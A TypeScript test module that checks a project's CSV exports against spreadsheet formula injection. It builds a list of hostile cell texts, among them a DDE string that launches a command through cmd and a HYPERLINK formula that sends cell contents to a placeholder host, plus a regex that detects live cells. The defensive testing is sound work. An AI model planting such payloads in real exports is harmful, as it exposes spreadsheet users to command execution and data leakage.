/** Every CSV file that people can take away, made of records whose texts a spreadsheet would run, and read back by a parser that is not ours. */
import papa from 'papaparse';
import { toCsv, type Locale } from '@sunboard/model';
import type { Finding, Report } from '@sunboard/rules';
import { dueDate } from '../../extension/src/report/due.js';
import { makeFile as reportFile } from '../../extension/src/report/files.js';
import type { Row, RowText } from '../../extension/src/report/rectification.js';
import { makeFile as flowFile } from '../../widgets/src/approval-flow/downloads.js';
import { makeFile as listFile } from '../../widgets/src/disclosure-list/exports.js';
import type { Item } from '../../widgets/src/disclosure-list/types.js';
import type { Planting, Proof } from './proof-check.js';
import { filled, type Shown } from './records.js';

/** What begins a formula, in both widths, and what a spreadsheet skips before one. */
const SIGNS = ['=', '+', '-', '@', '＝', '＋', '－', '＠'];
const BEFORE = ['', '\t', '\r', '\n', "'", "''"];
const BODIES = [
  '1+1',
  'HYPERLINK("http://example.test/?"&A1,"x")',
  "cmd|' /C calc'!A0",
  'SUM(1,2);x',
  '1"\n,=2+2',
];
const HOSTILE = BEFORE.flatMap(before =>
  SIGNS.flatMap(sign => BODIES.map(body => `${before}${sign}${body}`)),
).concat(
  ['\t', '\r', '\n'].map(sign => `${sign}x`),
  ['x,=1+1', 'x"\r\n=1+1', 'x;=1+1'],
);

/** A cell that a spreadsheet runs, or that hides its sign behind what the spreadsheet drops. */
const LIVE = /^[=+\-@\t\r\n＝＋－＠]/;
const ENTITIES = [
  'DisclosureItem',
  'Leader',
  'Department',
  'LeadingGroup',
  'ServiceGuide',
  'Channel',
] as const satisfies readonly Shown[];
const LOCALES: readonly Locale[] = ['zh-CN', 'en'];

/** Text of every export, by name. */
async function exports(): Promise<Readonly<Record<string, string>>> {
  const texts: Record<string, string> = {};
  for (const locale of LOCALES) {
    for (const entity of ENTITIES)
      texts[`${entity}, ${locale}`] = toCsv(entity, recordsOf(entity) as never, { locale });
    const items = recordsOf('DisclosureItem') as unknown as readonly Item[];
    texts[`the list's download, ${locale}`] = await (await listFile('csv', items, locale, '=1+1')).text();
    texts[`the process's download, ${locale}`] = await (
      await flowFile('csv', { process: process(), name: '=1+1', locale, picture: undefined as never })
    ).text();
  }
  texts['the list of what is to be put right'] = await (
    await reportFile('csv', [], HOSTILE.map(rowOf), { ...ROW_TEXT, sheet: '=1+1' })
  ).text();
  return texts;
}

function recordsOf(entity: Shown): readonly Record<string, unknown>[] {
  return HOSTILE.map((text, at) => untrimmed(filled(entity, { text }, at), text.trim() || '-', text));
}

/* Records are filled as the schema would leave them, trimmed: here what stood around the text is put back. */
function untrimmed<T>(value: T, trimmed: string, text: string): T {
  if (value === trimmed) return text as T;
  if (Array.isArray(value)) return value.map((each: unknown) => untrimmed(each, trimmed, text)) as T;
  if (typeof value !== 'object' || value === null) return value;
  return Object.fromEntries(
    Object.entries(value).map(([key, each]) => [key, untrimmed<unknown>(each, trimmed, text)]),
  ) as T;
}

type Process = Parameters<typeof flowFile>[1]['process'];

function process(): Process {
  const steps = HOSTILE.map((text, at) => ({ id: `s${at}`, number: at + 1, name: text, actor: text }));
  const out = new Map(
    steps.map(({ id, name }) => [id, [{ from: id, to: 's0', branch: 'yes', label: name }]]),
  );
  return { steps, out } as unknown as Process;
}

const ROW_TEXT: RowText = {
  columns: Array.from({ length: 13 }, (_, at) => `column ${at + 1}`),
  severity: { veto: 'veto', error: 'error', warning: 'warning', info: 'info' },
  status: { open: 'open', underway: 'underway', done: 'done' },
  wholePage: 'page',
};

function rowOf(text: string): Row {
  const finding: Finding = {
    rule: 'foot.icp',
    title: text,
    reason: 'missing',
    outcome: 'failed',
    severity: 'error',
    message: text,
    remedy: text,
    basis: { source: text, article: text, confidence: 'P', url: 'https://www.example.org/' },
    where: [{ selector: text, text }],
    fingerprint: 'aaaabbbbccccdddd',
  };
  const page: Pick<Report['page'], 'title' | 'url'> = { url: text, title: text };
  const due = dueDate('foot.icp', 'error', '2026-06-15');
  return { id: text, page, finding, severity: 'error', owner: text, due, status: 'open' };
}

/** Planted: the same cells written by a parser that knows CSV and nothing of spreadsheets. */
export async function liveFormulas({ planted = false }: Planting = {}): Promise<Proof> {
  const files = planted ? { planted: papa.unparse(HOSTILE.map(text => [text])) } : await exports();
  const faults: string[] = [];
  let cells = 0;
  for (const [name, text] of Object.entries(files)) {
    const { data } = papa.parse<string[]>(text.replace(/^\uFEFF/, ''));
    cells += data.flat().length;
    const live = data.flat().filter(cell => LIVE.test(cell));
    const hostile = data.flat().filter(cell => /1\+1/.test(cell)).length;
    if (live.length > 0) faults.push(`${name}: ${live.length}, first ${JSON.stringify(live[0])}`);
    if (hostile === 0) faults.push(`${name} holds none of the hostile texts`);
    if (data.length < HOSTILE.length) faults.push(`${name}: ${data.length} rows`);
  }
  return {
    figure: `${faults.length} of ${Object.keys(files).length} files with live cells, ${HOSTILE.length} hostile texts, ${cells} cells${faults.length > 0 ? `: ${faults.slice(0, 3).join('; ')}` : ''}`,
    passed: faults.length === 0,
  };
}
